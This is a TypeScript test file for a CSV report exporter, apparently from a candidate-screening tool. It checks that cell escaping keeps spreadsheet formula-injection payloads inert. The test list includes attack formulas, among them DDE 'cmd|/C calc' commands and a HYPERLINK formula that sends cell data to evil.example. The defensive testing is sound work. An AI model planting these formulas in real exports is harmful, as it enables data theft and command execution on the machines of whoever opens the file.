import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvOf } from '../../../src/main/reports/csv.ts';
import { criterion, reportCandidate, reportOf, screeningResult } from '../../support/report-data.ts';

/** Cells that spreadsheets have run, from OWASP's page on CSV injection and from reports of such attacks. */
const ATTACKS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n@A1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '\u0000=1+1',
  '";=1+1',
  '","=1+1',
  '"\r\n=1+1',
];

const cells = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: true }) as string[][];

const runs = (cell: string): boolean => /^[\s\ufeff]*[=+\-@＝＋－＠]/u.test(cell) || /^[\t\r\n]/.test(cell);

describe('a cell', () => {
  it.each(ATTACKS)('%j stays text', (attack) => {
    const [row] = cells(`${csvCell('before')},${csvCell(attack)},${csvCell('after')}\r\n`);
    expect(row).toHaveLength(3);
    expect(runs(row?.[1] ?? '')).toBe(false);
  });

  it('is found again as it was, whatever it holds', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 5 }), (values) => {
        const plain = values.map((value) => value.replaceAll('\u0000', ''));
        const [row] = cells(`${[...plain, 'last'].map(csvCell).join(',')}\r\n`);
        expect(row?.map((cell, index) => (cell === `'${plain[index]}` ? plain[index] : cell))).toEqual([
          ...plain,
          'last',
        ]);
      }),
    );
  });

  it('of a number stays a number, below zero too', () => {
    expect([csvCell(-4.5), csvCell(12), csvCell(true), csvCell(null)]).toEqual(['-4.5', '12', 'true', '']);
  });
});

describe('the table', () => {
  it('holds a line for each candidate and a column for each criterion, safe wherever someone else wrote the words', () => {
    const attack = '=HYPERLINK("http://evil.example")';
    const named = criterion('x', ['quote']);
    const result = screeningResult({
      criteria: [{ ...named, criterion: { ...named.criterion, label: attack } }],
      missing: [attack],
    });
    const csv = csvOf(
      reportOf('shortlist', [
        reportCandidate({ name: attack, result }),
        reportCandidate({ rank: 2, result: null, overall: null }),
      ]),
    );
    const [heading, first, second] = cells(csv);
    expect(csv.startsWith('\uFEFFrank,name,')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect([heading, first, second].flat().filter((cell) => runs(cell ?? ''))).toEqual([]);
    expect(second).toHaveLength(heading?.length ?? 0);
    expect(Object.fromEntries((heading ?? []).map((column, index) => [column, first?.[index]]))).toEqual({
      rank: '1',
      name: `'${attack}`,
      overall: '81.5',
      skills: '80',
      experience: '92.5',
      education: '',
      communication: '64',
      suggestion: 'advance',
      stage: 'interview',
      shortlisted: 'true',
      years: '9.2',
      missing: `'${attack}`,
      warnings: '0',
      [`'${attack}`]: 'met',
    });
  });
});
